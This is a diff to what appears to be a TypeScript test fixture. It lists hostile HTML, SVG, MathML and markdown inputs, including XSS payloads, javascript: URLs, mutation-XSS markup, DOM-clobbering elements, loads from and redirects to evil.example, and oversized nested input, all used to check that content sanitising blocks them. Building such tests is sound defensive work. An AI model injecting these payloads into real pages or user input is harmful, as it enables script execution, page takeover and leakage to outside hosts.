@@ -1,13 +1,9 @@
-/**
- * Attacks that a person might enter as content. Each of them tries to call `hit`, open a dialog,
- * contact another host or take over the page. None may succeed.
- */
+/** Each text tries to call `hit`, open a dialog, contact another host or take over the page. */
 const EVIL = 'https://evil.example';
 
 const repeat = (text: string, times: number) => text.repeat(times);
 
 export const HOSTILE: readonly string[] = [
-  // Script elements, some of them malformed.
   '<script>hit(1)</script>',
   '<ScRiPt>hit(1)</sCrIpT>',
   `<script src="${EVIL}/x.js"></script>`,
@@ -16,7 +12,6 @@ export const HOSTILE: readonly string[] = [
   '"><script>hit(1)</script>',
   '<noscript><p title="</noscript><script>hit(1)</script>">',
   '<template><script>hit(1)</script></template>',
-  // Event handlers.
   '<img src=x onerror=hit(1)>',
   '<img src="x" oNeRrOr="hit(1)">',
   '<img/src=x/onerror=hit(1)>',
@@ -33,7 +28,6 @@ export const HOSTILE: readonly string[] = [
   '<style>@keyframes x{}</style><b style="animation:x" onanimationstart=hit(1)>a</b>',
   '<form><button formaction="javascript:hit(1)">a</button></form>',
   `<form action="${EVIL}" id=f><input name=q></form><button form=f>a</button>`,
-  // URLs that run code.
   '[a](javascript:hit(1))',
   '[a](JaVaScRiPt:hit(1))',
   '[a](java&#x09;script:hit(1))',
@@ -50,7 +44,6 @@ export const HOSTILE: readonly string[] = [
   '<a href="jav\tascript:hit(1)">a</a>',
   '<a href="//evil.example/%0d%0aSet-Cookie:a=b">a</a>',
   '<area shape=default href="javascript:hit(1)"><map name=m></map>',
-  // Frames and objects.
   '<iframe src="javascript:parent.hit(1)"></iframe>',
   '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
   '<iframe src="data:text/html,<script>parent.hit(1)</script>"></iframe>',
@@ -61,7 +54,6 @@ export const HOSTILE: readonly string[] = [
   `<embed src="${EVIL}/x">`,
   '<frameset><frame src="javascript:hit(1)"></frameset>',
   '<portal src="https://evil.example"></portal>',
-  // SVG and MathML.
   '<svg onload=hit(1)>',
   '<svg><script>hit(1)</script></svg>',
   '<svg><script href="data:text/javascript,hit(1)"/></svg>',
@@ -70,7 +62,7 @@ export const HOSTILE: readonly string[] = [
   '<svg><use href="data:image/svg+xml,<svg id=x onload=hit(1)/>#x"/></svg>',
   '<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>',
   '<math><maction actiontype="statusline#" xlink:href="javascript:hit(1)">a</maction></math>',
-  // Markup that changes its meaning when it is parsed a second time.
+  // This markup changes its meaning when it is parsed a second time.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">',
   '<svg></p><style><a id="</style><img src=x onerror=hit(1)>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>',
@@ -79,7 +71,6 @@ export const HOSTILE: readonly string[] = [
   '<!--><img src=x onerror=hit(1)>-->',
   '<![CDATA[<img src=x onerror=hit(1)>]]>',
   '<title></title><img src=x onerror=hit(1)>',
-  // Elements that leave the page or take it over.
   '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   '<base href="https://evil.example/">',
   '<link rel=stylesheet href="https://evil.example/x.css">',
@@ -94,10 +85,9 @@ export const HOSTILE: readonly string[] = [
   `<video poster="${EVIL}/x.png" src="${EVIL}/x.mp4" autoplay></video>`,
   `<table background="${EVIL}/x.png"><tr><td>a</table>`,
   '<a href="https://evil.example" ping="https://evil.example/p" target=_top>a</a>',
-  // Element names that hide the page's own variables.
+  // These element names hide the page's own variables.
   '<form id=main name=config><input name=getElementById></form><a id=root name=location></a>',
   '<img name=getElementById><img name=querySelector>',
-  // Extremely long or deeply nested input.
   repeat('<div>', 20_000),
   repeat('<b><i>', 5000),
   repeat('> ', 5000),
